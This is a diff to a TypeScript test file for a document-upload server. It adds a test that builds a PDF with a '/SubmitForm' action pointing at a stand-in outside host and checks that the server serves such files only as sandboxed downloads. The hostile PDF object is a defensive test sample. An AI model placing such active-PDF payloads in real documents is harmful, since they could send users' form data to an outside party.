@@ -2,7 +2,13 @@
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import type { Document, UserCertificate } from '#contract/documents.ts';
 import { tidy } from '#server/housekeeping.ts';
-import { goodFiles, hostileFiles, oddNames } from '#tests/support/server/hostileFiles.ts';
+import {
+  goodFiles,
+  hostileFiles,
+  oddNames,
+  packedObjects,
+  pdfOf,
+} from '#tests/support/server/hostileFiles.ts';
 import { onAnyEngine, startTestApp, type SignedIn, type TestApp } from '#tests/support/server/serverApp.ts';
 
 const MEGABYTE = 1024 * 1024;
@@ -158,6 +164,18 @@ onAnyEngine('documents', (engine) => {
       const address = await read<string>(`/api/documents/open/${documentId}`);
       const { headers } = await server.fetch(address);
       expect(headers.get('content-disposition')).toContain('attachment;');
+      expect(headers.get('content-security-policy')).toMatch(/default-src 'none'.*sandbox/);
+    }
+  });
+
+  it('can only be saved, and shown neither in a frame nor in a tab, if it is a PDF that could do something', async () => {
+    const submits = packedObjects('5 0 << /S /SubmitForm /F (https://elsewhere.example) >>');
+    const { documentId } = (await (await upload('form.pdf', pdfOf(submits))).json()) as UserCertificate;
+    const file = await server.fetch(`/api/documents/${documentId}`, { headers: tomas.headers });
+    const opened = await server.fetch(await read<string>(`/api/documents/open/${documentId}`));
+    for (const { headers } of [file, opened]) {
+      expect(headers.get('content-type')).toBe('application/octet-stream');
+      expect(headers.get('content-disposition')).toContain('attachment; filename="form.pdf"');
       expect(headers.get('content-security-policy')).toMatch(/default-src 'none'.*sandbox/);
     }
   });
